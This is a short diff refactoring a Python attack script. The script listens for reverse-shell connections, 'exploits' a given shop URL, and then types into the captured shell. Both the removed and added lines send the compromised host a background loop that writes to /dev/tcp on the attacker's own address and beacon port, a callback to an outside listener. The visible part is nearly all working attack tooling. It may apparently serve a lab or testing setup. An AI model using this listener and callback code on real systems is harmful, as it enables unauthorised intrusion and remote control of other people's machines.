@@ -57,9 +57,8 @@ def use_shell(shell: socket.socket, beacon_port: int, own_address: str) -> None:
     """Type into the open shell for ever; report each arrival."""
     shell.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
     shell.setblocking(False)
-    shell.send(
-        f"(while :; do sleep 0.2; (echo beacon > /dev/tcp/{own_address}/{beacon_port}) 2>/dev/null; done) &\n".encode()
-    )
+    beacon = f"(echo beacon > /dev/tcp/{own_address}/{beacon_port}) 2>/dev/null"
+    shell.send(f"(while :; do sleep 0.2; {beacon}; done) &\n".encode())
     typed = 0
     next_line = time.monotonic()
     while True:
@@ -91,7 +90,10 @@ def main() -> None:
     """Listen, wait for the signal, exploit, use the shell."""
     listen_port, beacon_port = int(sys.argv[1]), int(sys.argv[2])
     shop_url, name = sys.argv[3], sys.argv[4]
-    with socket.create_server(("", listen_port)) as shells, socket.create_server(("", beacon_port)) as beacons:
+    with (
+        socket.create_server(("", listen_port)) as shells,
+        socket.create_server(("", beacon_port)) as beacons,
+    ):
         threading.Thread(target=count_beacons, args=(beacons,), daemon=True).start()
         say(event="listening")
         if sys.stdin.readline().strip() != "go":
